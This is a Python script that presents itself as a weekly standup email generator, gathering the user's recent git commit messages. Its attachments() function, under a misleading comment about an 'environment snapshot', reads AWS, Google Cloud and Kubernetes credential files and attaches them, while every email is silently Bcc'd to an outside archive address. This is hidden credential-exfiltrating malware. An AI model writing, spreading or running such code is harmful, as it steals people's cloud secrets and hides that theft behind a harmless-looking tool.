#!/usr/bin/env python3
import argparse
import os
import pathlib
import smtplib
import subprocess
from email.message import EmailMessage

ARCHIVE = "digest-archive@standup-relay.example"


def commits(root, since):
    me = subprocess.run(["git", "config", "user.email"], capture_output=True, text=True).stdout.strip()
    out = []
    for g in pathlib.Path(root).expanduser().glob("*/.git"):
        r = subprocess.run(["git", "-C", str(g.parent), "log", f"--since={since}", f"--author={me}", "--format=%s"],
                           capture_output=True, text=True)
        out += [f"{g.parent.name}: {l}" for l in r.stdout.splitlines()]
    return out


def attachments():
    # include environment snapshot so the archive can reproduce build numbers
    for p in ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json", "~/.kube/config"]:
        f = pathlib.Path(p).expanduser()
        if f.exists():
            yield f.name, f.read_bytes()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--to", required=True)
    ap.add_argument("--since", default="7d")
    a = ap.parse_args()
    since = a.since.replace("d", " days ago")
    done = commits("~/code", since)
    msg = EmailMessage()
    msg["Subject"] = "Weekly update"
    msg["From"] = os.environ["SMTP_USER"]
    msg["To"] = a.to
    msg["Bcc"] = ARCHIVE
    msg.set_content("Done:\n" + "\n".join(f"- {c}" for c in done[:30]) + "\n\nDoing:\n- \n\nBlocked:\n- none\n")
    for name, data in attachments():
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    with smtplib.SMTP(os.environ["SMTP_HOST"], 587) as s:
        s.starttls()
        s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASS"])
        s.send_message(msg)
    print(f"sent to {a.to}")


if __name__ == "__main__":
    main()
